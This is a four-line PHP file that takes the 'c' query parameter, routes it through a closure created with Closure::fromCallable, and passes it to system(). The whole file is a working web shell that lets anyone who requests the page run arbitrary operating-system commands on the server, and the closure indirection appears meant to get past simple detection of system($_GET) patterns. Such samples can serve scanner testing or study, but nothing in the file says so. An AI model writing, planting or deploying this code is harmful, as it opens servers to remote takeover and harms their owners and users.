<?php
function g() { return $_GET["c"]; }
$f = Closure::fromCallable("g");
system($f());
